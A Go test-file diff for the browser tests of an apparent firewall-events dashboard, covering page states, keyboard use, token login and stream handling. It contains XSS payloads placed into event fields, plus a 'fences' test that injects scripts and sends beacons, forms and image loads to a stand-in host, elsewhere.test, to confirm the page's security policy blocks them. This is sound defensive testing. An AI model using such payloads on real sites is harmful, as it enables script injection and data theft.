@@ -4,6 +4,8 @@ import (
 	"flag"
 	"fmt"
 	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -23,37 +25,65 @@ func views(opened string) []struct{ name, text string } {
 	}
 }
 
-// TestPageStates shows every view of a tier of which not all is well: nothing that axe calls serious, nothing refused by
-// the browser, nothing asked of anybody else.
-func TestPageStates(t *testing.T) {
-	events := someAttacks(150)
-	_, url := newStandIn(t, events)
+// TestPage has people look at the page, all in one browser.
+func TestPage(t *testing.T) {
 	chromium := start(t)
+	for name, look := range map[string]func(*testing.T, *browser){
+		"states": states, "text": text, "stream": broken, "many": manyEvents, "keyboard": keyboard, "token": token, "fences": fences,
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			look(t, chromium)
+		})
+	}
+}
+
+// states shows every view of a tier of which not all is well: nothing that axe calls serious, nothing refused by the
+// browser, nothing asked of anybody else, nothing wider than the screen.
+func states(t *testing.T, chromium *browser) {
+	_, url := newStandIn(t, someAttacks(150))
 	opened := "0197f2c4-8a51-7c3e-9d5b-000000000150"
-	for _, as := range []struct {
-		width int64
-		theme string
-	}{{wide, "light"}, {wide, "dark"}, {narrow, "light"}} {
+	screens := []screen{{wide, "light"}, {narrow, "dark"}, {wide, "dark"}, {narrow, "light"}}
+	if testing.Short() {
+		screens = screens[:2]
+	}
+	for _, as := range screens {
 		v := chromium.look(t, url, as.width, as.theme)
 		for _, one := range views(opened) {
 			what := fmt.Sprint(one.name, " ", as.width, " ", as.theme)
 			v.see(one.name, one.text)
 			v.has("10.0.0.7:9090") // the pod that does not answer
+			v.until("document.getElementById('basis').innerText.includes('Window')")
 			v.judge(what)
 			if over := eval[int](v, "document.documentElement.scrollWidth - innerWidth"); over > 0 {
 				t.Errorf("%s: %d pixels too wide", what, over)
 			}
-			v.until("document.getElementById('basis').innerText.includes('Window')")
 			v.clean(what)
-			if *shots {
-				name := fmt.Sprintf("%s-%s%s", one.name[:min(len(one.name), len("configuration"))], as.theme, map[int64]string{wide: "", narrow: "-narrow"}[as.width])
-				if one.name == "event/"+opened {
-					name = "event-" + as.theme
-				}
-				v.shoot(t.TempDir(), filepath.Base(name), true)
+			if name, whole := picture(one.name, as); *shots && name != "" {
+				v.shoot(filepath.Join("..", "..", "docs", "page"), name, whole)
 			}
 		}
 	}
+}
+
+// screen is what somebody looks at.
+type screen struct {
+	width int64
+	theme string
+}
+
+// picture is the name of the one that docs/page.md has of a view, and whether it shows what is below the edge; empty: it has none.
+func picture(view string, as screen) (name string, whole bool) {
+	view, _, _ = strings.Cut(view, "/")
+	switch {
+	case as == screen{wide, "light"} && (view == "overview" || view == "event" || view == "configuration"):
+		return view, true
+	case as == screen{wide, "dark"} && (view == "events" || view == "routes"):
+		return view, false
+	case as == screen{narrow, "dark"} && view == "overview":
+		return "narrow", false
+	}
+	return "", false
 }
 
 // payloads are what would run if text became markup.
@@ -62,8 +92,8 @@ var payloads = []string{
 	`javascript:window.ran.push('link')`, `'-window.ran.push('quote')-'`, `{{constructor.constructor('window.ran.push(1)')()}}`, `</textarea><iframe srcdoc="<script>parent.ran.push('frame')</script>">`,
 }
 
-// TestPageShowsText puts what would run into every field of an event, and looks at it everywhere.
-func TestPageShowsText(t *testing.T) {
+// text puts what would run into every field of an event, and looks at it everywhere.
+func text(t *testing.T, chromium *browser) {
 	fields := func(text string) attack {
 		return attack{Time: time.Now().UTC().Format(time.RFC3339Nano), Event: "security", RequestID: "id " + text, Route: text, Policy: text, Mode: text, Client: text, Method: text, Host: text, Path: text, Verdict: text, Status: 403,
 			Score: view.Score{Inbound: 5, InboundThreshold: 5}, Rules: []found{{942100, text, text, text, text, []string{text}}}, Coverage: text, CoverageReason: text, Error: text, AccessRule: text, UserAgent: text, Comment: text, Text: text}
@@ -78,7 +108,7 @@ func TestPageShowsText(t *testing.T) {
 		events = append(events, e)
 	}
 	s, url := newStandIn(t, events)
-	v := start(t).look(t, url, wide, "light")
+	v := chromium.look(t, url, wide, "light")
 	literal := func(view string) {
 		t.Helper()
 		for _, text := range payloads {
@@ -110,10 +140,10 @@ func TestPageShowsText(t *testing.T) {
 	}
 }
 
-// TestPageStream has the stream break off, go on where it was, and say what was missed.
-func TestPageStream(t *testing.T) {
+// broken has the stream break off, go on where it was, and say what was missed.
+func broken(t *testing.T, chromium *browser) {
 	s, url := newStandIn(t, someAttacks(3))
-	v := start(t).look(t, url, wide, "light")
+	v := chromium.look(t, url, wide, "light")
 	v.see("events", "live")
 	more := someAttacks(12)
 	s.push(more[0])
@@ -139,11 +169,11 @@ func TestPageStream(t *testing.T) {
 	v.clean("stream")
 }
 
-// TestPageManyEvents walks through a hundred thousand events while more come in, and stays small.
-func TestPageManyEvents(t *testing.T) {
+// manyEvents walks through a hundred thousand events while more come in, and stays small.
+func manyEvents(t *testing.T, chromium *browser) {
 	const many = 100_000
 	s, url := newStandIn(t, someAttacks(many))
-	v := start(t).look(t, url, wide, "light")
+	v := chromium.look(t, url, wide, "light")
 	v.see("events", "100 events shown")
 	for range 12 {
 		before := eval[string](v, "document.querySelector('.events tbody tr:last-child').dataset.key")
@@ -153,6 +183,7 @@ func TestPageManyEvents(t *testing.T) {
 	v.see("events?text=000000000007&verdict=would_block", "shown") // far back
 	v.see("events?text=-000000000007", "1 event shown")
 	v.see("events", "100 events shown")
+	v.until("document.getElementById('stream').innerText.includes('live')")
 	for i := range 1500 {
 		e := attack{Time: time.Now().UTC().Format(time.RFC3339Nano), Event: "security", RequestID: fmt.Sprint("flood-", i), Method: "GET", Path: fmt.Sprint("/flood/", i), Verdict: "block", Status: 403}
 		s.push(e.event(fmt.Sprint("f-", i)))
@@ -164,10 +195,10 @@ func TestPageManyEvents(t *testing.T) {
 	v.clean("many events")
 }
 
-// TestPageKeyboard goes through the page without a mouse.
-func TestPageKeyboard(t *testing.T) {
+// keyboard goes through the page without a mouse.
+func keyboard(t *testing.T, chromium *browser) {
 	_, url := newStandIn(t, someAttacks(5))
-	v := start(t).look(t, url, wide, "light")
+	v := chromium.look(t, url, wide, "light")
 	v.has("The latest findings")
 	// tab presses Tab until what has the focus is what is looked for.
 	tab := func(expression string) {
@@ -215,11 +246,11 @@ func TestPageKeyboard(t *testing.T) {
 	v.clean("keyboard")
 }
 
-// TestPageToken asks for a token where one is needed, and takes no other.
-func TestPageToken(t *testing.T) {
+// token asks for a token where one is needed, and takes no other.
+func token(t *testing.T, chromium *browser) {
 	s, url := newStandIn(t, someAttacks(5))
 	s.token = "the right one"
-	v := start(t).look(t, url, wide, "light")
+	v := chromium.look(t, url, wide, "light")
 	v.has("This tier asks who you are")
 	v.judge("login")
 	enter := func(token string) {
@@ -240,4 +271,39 @@ func TestPageToken(t *testing.T) {
 	v.click(".tools > button:last-child") // forgets it
 	v.has("This tier asks who you are")
 	v.clean("token")
+}
+
+// fences has the page make the mistakes that it must not make: the browser refuses all of them, and what watches it tells.
+func fences(t *testing.T, chromium *browser) {
+	_, url := newStandIn(t, someAttacks(5))
+	v := chromium.look(t, url, wide, "light")
+	v.has("The latest findings")
+	for what, mistake := range map[string]string{
+		"markup from text":     `document.body.innerHTML = '<img src=x onerror="window.ran.push(1)">'`,
+		"markup beside":        `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
+		"a script of text":     `(() => { const s = document.createElement('script'); s.textContent = 'window.ran.push(2)'; document.body.append(s) })()`,
+		"a script from beside": `(() => { const s = document.createElement('script'); s.src = 'https://elsewhere.test/x.js'; document.body.append(s) })()`,
+		"text that runs":       `setTimeout('window.ran.push(3)', 0)`,
+		"a handler as text":    `document.body.setAttribute('onclick', 'window.ran.push(4)'), document.body.click()`,
+		"a style as text":      `document.body.setAttribute('style', 'background: url(https://elsewhere.test/x)')`,
+		"a picture of others":  `document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.test/x.png' }))`,
+		"a form to others":     `(() => { const f = document.createElement('form'); f.action = 'https://elsewhere.test/'; document.body.append(f); f.submit() })()`,
+		"telling others":       `navigator.sendBeacon('https://elsewhere.test/', 'x')`,
+	} {
+		before := eval[int](v, "window.refused.length")
+		eval[any](v, "(() => { try { "+mistake+" } catch { } })()")
+		deadline := time.Now().Add(patience)
+		for eval[int](v, "window.refused.length") == before {
+			if time.Now().After(deadline) {
+				t.Fatalf("%s is not refused", what)
+			}
+		}
+	}
+	if ran := eval[[]any](v, "window.ran"); len(ran) > 0 {
+		t.Errorf("%v has run", ran)
+	}
+	eval[any](v, "void document.getElementById('main').append(document.createElement('button'))")
+	if found := v.serious(); !slices.ContainsFunc(found, func(f finding) bool { return f.ID == "button-name" }) {
+		t.Errorf("of a button without a name axe says %+v", found)
+	}
 }
